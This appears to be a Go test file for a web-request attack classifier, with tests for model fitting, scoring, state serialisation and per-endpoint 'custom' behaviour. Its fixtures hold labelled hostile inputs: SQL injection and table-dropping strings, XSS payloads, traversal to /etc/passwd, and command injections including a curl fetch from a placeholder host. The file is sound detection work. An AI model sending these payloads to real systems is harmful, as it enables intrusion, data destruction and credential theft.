package features

import (
	"bytes"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"apiml/traffic"
)

// textRequests are a few dozen benign and hostile requests; k varies them.
func textRequests(k int) []traffic.Request {
	var out []traffic.Request
	add := func(l traffic.Label, values ...string) {
		for i, v := range values {
			r := traffic.Request{Time: traffic.NoTime, Method: "POST", Target: fmt.Sprintf("/form/%d", i), Status: 200, Label: l, HasBody: true}
			r.Body = fmt.Sprintf(`{"name": "item %d", "text": %q}`, k, v)
			out = append(out, r)
		}
	}
	n := fmt.Sprint(k)
	add(traffic.None, "please select a plan from the list of "+n, "O'Brien & sons, "+n+" Union Street", "drop off at "+n+":30 or later", "a < b and c > "+n,
		"my order by mail, number "+n, "100% cotton (size "+n+")", "see https://shop.example/p/"+n+"?a=b&c=d", "let x = "+n+"; // a script", "say \"hi\" to "+n)
	add(traffic.SQLInjection, n+"' or "+n+"="+n+"-- ", "1 union select null, "+n+", password from users", "x'; drop table t"+n+"; --", n+" and sleep("+n+")")
	add(traffic.XSS, "<script>alert("+n+")</script>", "\"><img src=x onerror=alert("+n+")>", "<svg/onload=prompt("+n+")>")
	add(traffic.PathTraversal, "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/hosts")
	add(traffic.CommandInjection, "; cat /etc/passwd", "| id", "$(curl http://"+n+".example/x)", "`whoami`")
	return out
}

func fitText(t *testing.T) (*TextModel, *TextSamples) {
	t.Helper()
	s := NewTextSamples()
	for k := range 60 {
		s.Add(textRequests(k + 1))
	}
	m, err := FitText(t.Context(), s, TextConfig{Seed: 1, Rate: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	return m, s
}

func TestTextModel(t *testing.T) {
	m, s := fitText(t)
	again, err := FitText(t.Context(), s, TextConfig{Seed: 1, Rate: 0.1})
	if err != nil || !bytes.Equal(appendText(nil, m), appendText(nil, again)) {
		t.Errorf("the same samples and seed give another model (%v)", err)
	}
	sc := NewTextScorer(m)
	odds := func(value string) float32 {
		any, _ := sc.Score(&traffic.Request{Method: "POST", Target: "/form", HasBody: true, Body: fmt.Sprintf(`{"text": %q}`, value)})
		return any
	}
	for _, r := range textRequests(977) {
		any, class := sc.Score(&r)
		if r.Label == traffic.None && any > 0 || r.Label != traffic.None && any < 0 {
			t.Errorf("%v %s: log-odds %.1f", r.Label, r.Body, any)
		}
		if r.Label != traffic.None {
			best := 1
			for c := range class {
				if c > 0 && class[c] > class[best] {
					best = c
				}
			}
			if got := TextClasses()[best]; got != r.Label {
				t.Errorf("%s reads like %v", r.Body, got)
			}
		}
	}
	// An attack inside a long honest text is found, repetition proves nothing.
	long := strings.Repeat("my order came by mail and we are happy with the size of it. ", 40)
	attack := "1' or 1=1-- "
	if alone, inside := odds(attack), odds(long+attack+long); inside < alone/2 || inside < 0 {
		t.Errorf("log-odds alone %.1f, inside a long text %.1f", alone, inside)
	}
	if one, many := odds("a.jpg"), odds("a................................jpg"); many > max(one, 0)+3 {
		t.Errorf("a run of dots: log-odds %.1f, without %.1f", many, one)
	}
}

func TestTextNeedsBoth(t *testing.T) {
	s := NewTextSamples()
	s.Add(textRequests(1)[:5])
	if _, err := FitText(t.Context(), s, TextConfig{}); err == nil {
		t.Error("fitted on benign requests alone")
	}
}

// TestTextState holds that a state with a text model comes back as it was, and
// that no damaged one is read.
func TestTextState(t *testing.T) {
	m, _ := fitText(t)
	if _, err := m.Calibrated(0, -1); err == nil {
		t.Error("a falling calibration was taken")
	}
	m, err := m.Calibrated(-3, 0.8)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := Online(m).MarshalBinary()
	s, err := ParseState(b)
	if err != nil {
		t.Fatal(err)
	}
	if again := encodeState(s.profile, s.text); !bytes.Equal(again, b) || s.ID() != Online(m).ID() || s.ID() == Online(nil).ID() {
		t.Error("the state came back changed")
	}
	r := textRequests(5)[10]
	x, _ := NewTextScorer(m).Score(&r)
	y, _ := NewTextScorer(s.Text()).Score(&r)
	if x != y {
		t.Errorf("log-odds %v, read back %v", x, y)
	}
	for _, cut := range []int{13, 20, 50, len(b) / 2, len(b) - 1} {
		if _, err := ParseState(b[:cut]); err == nil {
			t.Errorf("%d of %d bytes were read", cut, len(b))
		}
	}
	bad := bytes.Clone(b)
	bad[13], bad[14], bad[15], bad[16] = 0, 0, 0xc0, 0x7f // NaN as a bias
	if _, err := ParseState(bad); err == nil {
		t.Error("NaN was read")
	}
}

// TestCustom: what many principals send, again and again, and the server takes,
// is the custom of an endpoint, even if it reads like a payload; what a few send,
// what is refused, or what is rare there never becomes it.
func TestCustom(t *testing.T) {
	hot := func(form uint64) *shape {
		s := &shape{template: 1, form: form}
		s.odds[0] = 5
		return s
	}
	plain := &shape{template: 1}
	plain.odds[0] = -textFloor
	for _, c := range []struct {
		what               string
		n, by, others      int
		status             uint8
		flagged, customary bool
	}{
		{"forty principals", 40, 40, 0, 2, true, true},
		{"forty principals, not flagged", 40, 40, 0, 2, false, true},
		{"one principal", 400, 1, 0, 2, true, false},
		{"refused", 40, 40, 0, 4, true, false},
		{"few requests", 20, 20, 0, 2, true, false},
		{"rare here", 40, 40, 400, 2, true, false},
	} {
		p := newProfile()
		for i := range max(c.n, c.others) {
			if i < c.n {
				if c.flagged {
					p.pass(hot(7), outcome{status: c.status}, uint32(1+i%c.by))
				} else {
					p.observe(hot(7), outcome{status: c.status}, uint32(1+i%c.by), false)
				}
			}
			if i < c.others {
				p.observe(plain, outcome{status: 2}, uint32(1000+i), false)
			}
		}
		var dst [numColumns - numWindow]float32
		p.score(dst[:], hot(7), outcome{})
		if got := dst[cTextAttack-numWindow] == -textFloor; got != c.customary {
			t.Errorf("%s: customary %v", c.what, got)
		}
		if p.score(dst[:], hot(8), outcome{}); dst[cTextAttack-numWindow] != 5 {
			t.Errorf("%s: another form is customary", c.what)
		}
	}
}

func BenchmarkText(b *testing.B) {
	s := NewTextSamples()
	for k := range 20 {
		s.Add(textRequests(k + 1))
	}
	m, err := FitText(b.Context(), s, TextConfig{Seed: 1})
	if err != nil {
		b.Fatal(err)
	}
	sc := NewTextScorer(m)
	reqs := textRequests(3)
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		sc.Score(&reqs[i%len(reqs)])
	}
}

// TestMemo: what a request looked like before another came changes nothing: same
// target and other method or body, targets that hold the bytes between the parts
// of a key.
func TestMemo(t *testing.T) {
	m, _ := fitText(t)
	s := Online(m)
	var reqs []traffic.Request
	for _, target := range []string{"/a/7?q=1", "/<script>alert(1)</script>", "/a/7/../../../../etc/passwd?id=1' or 1=1-- ", "api.example:443", "*", ""} {
		for _, method := range []string{"", "GET", "POST", "CONNECT", "OPTIONS"} {
			r := request(method, target)
			reqs = append(reqs, r)
			r.HasBody = true
			reqs = append(reqs, r)
			r.Body = "id=<script>alert(1)</script>"
			reqs = append(reqs, r)
			for _, between := range []string{"\x00C", "\x00B", "\x00C\x00B"} {
				r := request(method, target+between)
				reqs = append(reqs, r)
				r.Target += "id=<script>alert(1)</script>"
				reqs = append(reqs, r)
			}
		}
	}
	forth, back := slices.Clone(reqs), slices.Clone(reqs)
	slices.Reverse(back)
	x, y := extract(s, append(forth, reqs...)), extract(s, back)
	for i := range reqs {
		alone := extract(s, reqs[i:i+1])
		for j, c := range alone.Schema.Columns {
			want := alone.Cols[j][0]
			for what, got := range map[string]float32{"in order": x.Cols[j][i], "a second time": x.Cols[j][len(reqs)+i], "in reverse": y.Cols[j][len(reqs)-1-i]} {
				if math.Float32bits(got) != math.Float32bits(want) {
					t.Errorf("%s %q %q, %s: %s %g, alone %g", reqs[i].Method, reqs[i].Target, reqs[i].Body, what, c.Name, got, want)
				}
			}
		}
	}
}
